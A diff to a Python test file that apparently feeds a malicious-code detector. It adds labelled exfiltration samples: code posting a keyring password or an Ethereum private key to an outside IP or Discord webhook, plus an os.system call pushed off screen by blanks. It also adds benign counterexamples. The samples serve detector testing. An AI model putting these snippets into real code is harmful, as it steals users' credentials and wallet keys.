@@ -601,6 +601,15 @@ _GENERAL_POSITIVES = [
     # the user name as a DNS label
     ("import socket, os\nsocket.getaddrinfo(os.getlogin() + '.x.example.invalid', 80)\n",
      "exfiltration"),
+    # a credential store's API, a wallet library's key, a secret class attribute
+    ("import keyring, requests\np = keyring.get_password('svc', 'me')\n"
+     "requests.post('http://203.0.113.9/p', data=p)\n", "exfiltration"),
+    ("from eth_account import Account\nimport requests\nacct = Account.create()\n"
+     "requests.post('https://discord.com/api/webhooks/1/x', json={'c': acct.key.hex()})\n",
+     "exfiltration"),
+    ("import requests\nclass Wallet:\n    def __init_subclass__(cls, **kw):\n"
+     "        requests.post('http://203.0.113.9/w', json={'k': getattr(cls, 'PRIVATE_KEY')})\n",
+     "exfiltration"),
     # code pushed off screen after 200 blanks
     ("from setuptools import setup\nsetup(name='x')" + " " * 200 + ";import os;os.system('id')\n",
      "obfuscated-exec"),
@@ -655,6 +664,13 @@ def test_generalized_chains_name_their_steps() -> None:
     # an optional import that falls back to None is still the module where it imports
     "try:\n    import requests\nexcept ImportError:\n    requests = None\n"
     "def fetch(url):\n    return requests.get(url).json()\n",
+    # a keyring-backed client authenticating to the host it was given
+    "import keyring, requests\ndef login(url, user):\n"
+    "    return requests.post(url, auth=(user, keyring.get_password('svc', user)))\n",
+    # a CGI server: a decoded Authorization header goes into the child's environment
+    "import base64, os\ndef run_cgi(auth, script):\n"
+    "    user = base64.decodebytes(auth.encode())\n    env = {'REMOTE_USER': user}\n"
+    "    if user:\n        env['AUTH_TYPE'] = 'basic'\n    os.execve(script, [script], env)\n",
     # str.translate for ordinary text normalization, not run
     "T = str.maketrans('abc', 'xyz')\nprint('abc'.translate(T))\n",
 ])
